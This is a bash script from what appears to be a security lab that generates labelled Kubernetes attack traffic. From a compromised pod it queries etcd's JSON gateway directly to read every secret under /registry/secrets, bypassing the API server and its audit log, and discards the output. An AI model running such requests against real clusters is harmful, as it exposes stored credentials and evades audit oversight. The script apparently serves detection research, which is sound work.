#!/usr/bin/env bash
# Lateral movement: the compromised pod reads secrets straight out of etcd through
# its v3 JSON gateway on the control-plane node (no API server, no audit log).
set -euo pipefail
source "$LAB_DIR/lib.sh"
lab_assert_target "$NODE1_IP"
ns=$(lab_pod_ns toolbox)
gt_begin etcd-access lateral-movement curl pod:toolbox pod:etcd "GET /version, POST /v3/kv/range key=/registry/secrets on node-1:2379"
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 "http://$NODE1_IP:2379/version" || true
key=$(printf '/registry/secrets/' | base64 -w0)
end=$(printf '/registry/secrets0' | base64 -w0)
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 -X POST -d "{\"key\":\"$key\",\"range_end\":\"$end\"}" "http://$NODE1_IP:2379/v3/kv/range" || true
gt_end '{"dport":2379}'
